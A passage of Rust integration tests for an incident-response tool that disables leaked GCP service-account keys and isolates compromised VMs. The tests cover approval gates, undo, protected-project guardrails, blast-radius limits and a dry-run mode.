    let body = std::fs::read(repo("playbooks/fixtures/gcp-scc-leaked-sa-key.json")).unwrap();
    let (run, prompt) = start_run(&server, body).await;
    assert!(
        prompt.contains(KEY_ID) && prompt.contains(CI) && prompt.contains("1 audit-log entries"),
        "{prompt}"
    );
    let key = |state: &Value| state["keys"][key_name()]["disabled"].clone();
    assert_eq!(
        key(&s.fake.state().await),
        false,
        "nothing disabled before the decision"
    );

    let done = decide(&server, &run, "approve").await;
    assert_eq!(done["run"]["status"], "succeeded", "{}", done["run"]);
    assert_eq!(key(&s.fake.state().await), true);
    assert_eq!(
        s.fake.state().await["service_accounts"][CI]["disabled"],
        false,
        "the account keeps working"
    );

    let undo = server
        .undo(&run, "disable_key", "cli:analyst", "cli:lead")
        .await;
    assert_eq!(undo["run"]["status"], "succeeded", "{undo}");
    assert_eq!(key(&s.fake.state().await), false);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn guardrails_refuse_a_protected_project_and_count_the_blast_radius() {
    let s = Setup::start().await;
    for (project, name) in [("prod-project-1", VM), (PROJECT, "second-vm")] {
        s.fake
            .seed_instance(
                json!({ "project": project, "zone": ZONE, "name": name, "tags": ["web"] }),
            )
            .await;
    }
    let guardrails = "guardrails:\n  protected: [\"prod-project-*\"]\n  blast_radius:\n    gcp-compute.isolate_instance: { max: 1, window: 1h }\n  blast_radius_approvers: admins\n";
    let server = server(&s, &["gcp-vm-compromise.yaml"], guardrails).await;

    // A protected project: even the snapshots are refused, and so is the isolation.
    let (run, prompt) = start_run(
        &server,
        etd_finding(|t| {
            t.replace("test-project-15511551515", "prod-project-1")
                .replace("6a30ce60", "5c2f9b11")
        }),
    )
    .await;
    assert!(
        prompt.contains("disk snapshots FAILED") && prompt.contains("protected"),
        "{prompt}"
    );
    let done = decide(&server, &run, "approve").await;
    assert_eq!(done["run"]["status"], "failed", "{}", done["run"]);
    let error = done["run"]["steps"]["isolate"]["error"].as_str().unwrap();
    assert!(
        error.contains("protected resource") && error.contains("prod-project-*"),
        "{error}"
    );
    let prod = format!("projects/prod-project-1/zones/{ZONE}/instances/{VM}");
    assert_eq!(
        s.fake.state().await["instances"][&prod]["tags"]["items"],
        json!(["web"])
    );
    assert!(
        s.fake.state().await["snapshots"]
            .as_object()
            .unwrap()
            .is_empty()
    );

    // One isolation an hour: the first goes through, the second waits for the admins.
    let (first, _) = start_run(&server, etd_finding(|t| t)).await;
    assert_eq!(
        decide(&server, &first, "approve").await["run"]["status"],
        "succeeded"
    );
    assert_eq!(s.tags(VM).await, ["web", "ssh", TAG]);
    let (second, _) = start_run(
        &server,
        etd_finding(|t| {
            t.replace("instances/bad-ip-caller", "instances/second-vm")
                .replace("6a30ce60", "7b41df71")
        }),
    )
    .await;
    server
        .decide(&second, "approve", "approve", "cli:analyst")
        .await;
    let held = server
        .wait_run(&second, "held", |r| {
            r["steps"]["isolate"]["status"] == "waiting"
        })
        .await;
    let prompt = held["run"]["steps"]["isolate"]["approval"]["prompt"]
        .as_str()
        .unwrap();
    assert!(
        prompt.contains("blast radius of 1 calls per 1h"),
        "{prompt}"
    );
    assert_eq!(s.tags("second-vm").await, ["web"], "held, not called");
}

#[tokio::test]
async fn a_dry_run_shows_the_firewall_rules_and_the_tag_change_and_changes_nothing() {
    let s = Setup::start().await;
    let playbook = s.dir.path().join("dry.yaml");
    std::fs::write(
        &playbook,
        "id: gcp-dry\nname: Plan an isolation\ndry_run: true\non:\n  source: gcp.scc\nsteps:\n  - id: isolate\n    uses: gcp-compute.isolate_instance\n    with:\n      instance: \"${{ alert.resource.id }}\"\n",
    )
    .unwrap();
    let config = format!(
        "playbooks:\n  paths: [{}]\n{}{}",
        playbook.display(),
        s.yaml(None, ""),
        all_sources()
    );
    let server = TestServer::start_with(&config).await;
    let answer = server.accept("gcp.scc", etd_finding(|t| t)).await;
    let run = server
        .run_for_alert(answer["alerts"][0]["alert_id"].as_str().unwrap())
        .await;
    let done = server.wait_run(&run, "finished", finished).await;
    assert_eq!(done["run"]["status"], "succeeded", "{}", done["run"]);
    let output = &done["run"]["steps"]["isolate"]["output"];
    assert_eq!(output["dry_run"], true, "{output}");
    let plan = &output["plan"];
    let rules = plan["firewall_rules_to_create"]
        .as_array()
        .unwrap_or_else(|| panic!("{output}"));
    assert_eq!(rules.len(), 4, "{plan}");
    for rule in rules {
        assert_eq!(
            (rule["priority"].as_i64(), &rule["denied"]),
            (Some(0), &json!([{ "IPProtocol": "all" }]))
        );
        assert_eq!(rule["targetTags"], json!([TAG]));
    }
    assert_eq!(plan["tags"]["before"], json!(["web", "ssh"]));
    assert_eq!(plan["tags"]["after"], json!(["web", "ssh", TAG]));
    assert_eq!(
        s.fake.count("POST", "/compute/").await,
        0,
        "nothing written"
    );
    assert!(s.firewalls().await.is_empty());
    assert_eq!(s.tags(VM).await, ["web", "ssh"]);
}

#[test]
fn cordon_actions_list_shows_the_gcp_actions() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("config.yaml");
    std::fs::write(
        &config,
        format!(
            "playbooks:\n  paths: []\nintegrations:\n  paths: [{}, {}]\n",
            repo("integrations/gcp-compute").display(),
            repo("integrations/gcp-iam").display()
        ),
    )
    .unwrap();
    let (code, out, err) = cli(&config, &["actions", "list"]);
    assert_eq!(code, 0, "{err}");
    for action in [
        "gcp-compute.isolate_instance  (side effect, idempotent)",
        "gcp-compute.release_instance",
        "gcp-compute.snapshot_disks",
        "gcp-compute.stop_instance",
        "gcp-compute.start_instance",
        "gcp-iam.disable_service_account_key",
        "gcp-iam.enable_service_account_key",
        "gcp-iam.disable_service_account",
        "gcp-iam.enable_service_account",
        "gcp-iam.list_audit_logs  (no side effect)",
    ] {
        assert!(out.contains(action), "{action} missing from:\n{out}");
    }
}
